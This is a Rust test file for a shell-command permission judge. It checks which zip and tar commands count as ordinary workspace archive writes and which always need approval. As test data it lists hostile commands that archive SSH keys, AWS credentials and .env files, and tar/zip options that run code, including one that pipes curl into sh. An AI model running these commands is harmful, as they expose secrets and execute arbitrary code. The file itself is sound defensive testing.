//! An archive made in the workspace of files of the workspace (`zip -qr release/ext.zip dist`,
//! `tar -czf dist.tgz build/`) is one new file there: the file tools' one family of writes in
//! the workspace, in every spelling of the options that only choose how it is made. Archives
//! written elsewhere, of secrets or of files outside the workspace, extraction, options that
//! delete, run a command or read names from elsewhere keep their own questions.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, allowed, always_ask, family};

const WORKSPACE_WRITE: &str = "workspace write";

#[test]
fn an_archive_of_workspace_files_made_in_the_workspace_is_a_workspace_write() {
    family(
        WORKSPACE_WRITE,
        &[
            "cd release && zip -qr quillnote-chrome.zip ../dist && unzip -l quillnote-chrome.zip | tail -3",
            "zip -r release/ext.zip dist",
            "zip -qr9 ext.zip dist manifest.json",
            "zip -q -r -9 ext.zip dist",
            "zip -rj flat.zip build/icons",
            "zip -r ext.zip dist -x '*.map' '.DS_Store'",
            "zip -r ext.zip dist --exclude '*.map'",
            "zip -ryX ext.zip dist",
            "zip /ws/release/ext.zip /ws/dist/app.js",
            "tar -czf dist.tgz build/",
            "tar czf dist.tgz build",
            "tar -cvzf out/site.tar.gz public",
            "tar -cJf out/site.tar.xz public docs",
            "tar -c -z -f dist.tgz build",
            "tar --create --gzip --file=dist.tgz build",
            "tar --create --file dist.tar build",
            "tar -caf dist.tar.zst build",
        ],
    );
    // Listing an archive still only reads.
    allowed(&[
        "unzip -l quillnote-chrome.zip",
        "tar -tzf dist.tgz",
        "zipinfo ext.zip",
    ]);
}

#[test]
fn archives_elsewhere_of_secrets_or_with_other_options_keep_their_questions() {
    // Outside the workspace, into a hook's folder, over airlock's own files.
    always_ask(&[
        "zip -r ~/ext.zip dist",
        "zip -r ../ext.zip dist",
        "tar -czf /etc/site.tgz build",
        "zip -r .git/hooks/pre-commit dist",
        "tar -czf .airlock/x.tgz build",
        // A tree that holds secrets.
        "zip -r keys.zip ~/.ssh",
        "tar -czf home.tgz ~",
        "tar -czf aws.tgz ~/.aws",
    ]);
    for s in [
        // Files named as secrets, or outside the workspace, stored.
        "zip ext.zip .env",
        "zip -r ext.zip dist .env.production",
        "tar -czf bundle.tgz build config/master.key",
        "zip -r ext.zip /etc/nginx",
        "zip -r ext.zip ../other-project",
        "tar -czf x.tgz /var/log",
        // An archive named as a secret, a word built at run time.
        "zip -r .env dist",
        "zip -r \"$OUT\" dist",
        "tar -czf \"$(date +%s).tgz\" build",
        // Options that delete the files, run a command, read names from elsewhere, take a
        // password, or write another path.
        "zip -rm ext.zip dist",
        "zip -r -T -TT 'sh -c id' ext.zip dist",
        "find dist | zip ext.zip -@",
        "zip -e ext.zip dist/app.js",
        "zip -r -b /tmp ext.zip dist",
        "zip -r --out other.zip ext.zip dist",
        "zip -d ext.zip dist/app.js.map",
        // Extraction, appending, a folder changed to, a program to compress with, names from
        // a file, the archive on standard output.
        "tar -xzf dist.tgz",
        "tar -rf dist.tar extra",
        "tar -czf dist.tgz -C build .",
        "tar -cf dist.tgz --use-compress-program='sh -c id' build",
        "tar -czf dist.tgz -T files.txt",
        "tar -czf - build",
        "tar -cfz dist.tgz build",
        // No files named.
        "zip ext.zip",
    ] {
        let v = judge(s, &ENV);
        assert!(
            v.level != Level::Allow && v.grant.as_deref() != Some(WORKSPACE_WRITE),
            "{s}: {:?} `{}` {:?}",
            v.level,
            v.row,
            v.grant
        );
    }
}

/// An archive of the workspace's root, of a glob of a whole folder or of a folder that holds
/// secret files by its use packs `.env` and keys with the rest (and `unzip -p` then prints them
/// at once): it keeps its own question, never the family of writes in the workspace. Named
/// source and output folders stay in the family.
#[test]
fn an_archive_of_the_root_or_of_a_secret_folder_keeps_its_question() {
    for s in [
        "zip -r out.zip .",
        "zip -r out.zip ./",
        "zip -qr out.zip . -x '*.git*'",
        "zip -r out.zip *",
        "zip -r out.zip .??*",
        "zip -r out.zip /ws",
        "zip -r out.zip /ws/",
        "tar czf out.tgz .",
        "tar -czf out.tgz ./",
        "tar czf out.tgz *",
        "tar czf out.tgz \"$PWD\"",
        "tar czf out.tgz $(pwd)",
        "tar -czf out.tgz /ws",
        "cd src && tar czf ../out.tgz ..",
        "zip -r conf.zip config",
        "zip -r conf.zip src/config",
        "tar czf s.tgz secrets/",
        "tar czf s.tgz .secrets",
        "tar czf k.tgz keys",
        "tar czf k.tgz deploy-keys",
        "tar czf c.tgz certs",
        "tar czf g.tgz .git",
        "tar czf d.tgz deploy",
        "tar czf t.tgz .terraform",
        "tar czf p.tgz production",
        "zip -r i.zip instance",
        "zip -r y.zip dist config/*.yml",
        "zip -r e.zip src/*.env",
    ] {
        let v = judge(s, &ENV);
        assert!(
            v.level != Level::Allow && v.grant.as_deref() != Some(WORKSPACE_WRITE),
            "{s}: {:?} `{}` {:?}",
            v.level,
            v.row,
            v.grant
        );
    }
    family(
        WORKSPACE_WRITE,
        &[
            "zip -r out.zip src/",
            "zip -r out.zip src",
            "tar czf dist.tgz dist",
            "tar -czf build.tgz build/",
            "zip -r o.zip src/*.rs",
            "tar czf o.tgz src/*",
            "zip -qr release/ext.zip dist assets",
            "tar -cvf docs.tar docs",
        ],
    );
}

/// Options that run a program (a compressor, a checkpoint's action, a command fed each entry,
/// zip's test command) or follow links always ask, in every spelling, never under the key
/// plain archiving is asked by; their plain neighbours keep their keys.
#[test]
fn archivers_options_that_run_code_always_ask() {
    always_ask(&[
        "tar -h -czf o.tgz src",
        "tar czhf o.tgz src",
        "tar -czhf o.tgz src",
        "tar --dereference -czf o.tgz src",
        "tar --use-compress-program=zstd -cf o.tar src",
        "tar --use-compress-program zstd -cf o.tar src",
        "tar -I zstd -cf o.tar src",
        "tar -Izstd -cf o.tar src",
        "tar -cf o.tar -I 'sh -c id' src",
        "tar --checkpoint=1 --checkpoint-action=exec=sh -cf o.tar src",
        "tar -cf o.tar --checkpoint-action exec='curl x|sh' src",
        "tar -xf o.tar --to-command='sh -c id'",
        "tar -cf o.tar -F ./next.sh src",
        "tar --info-script=./x.sh -cf o.tar src",
        "bsdtar -h -czf o.tgz src",
        "gtar --use-compress-program=pigz -cf o.tgz src",
        "zip -TT 'sh -c id' -T o.zip src",
        "zip -T -TT=id o.zip src",
        "zip -r -T --unzip-command 'sh -c id' o.zip src",
    ]);
    // An `h` in the archive's name given in the cluster is no option.
    assert_eq!(judge("tar -cfh.tar src", &ENV).level, Level::AskOnce);
    family(
        WORKSPACE_WRITE,
        &["tar -czf out.tgz src", "tar czvf out.tgz src"],
    );
}
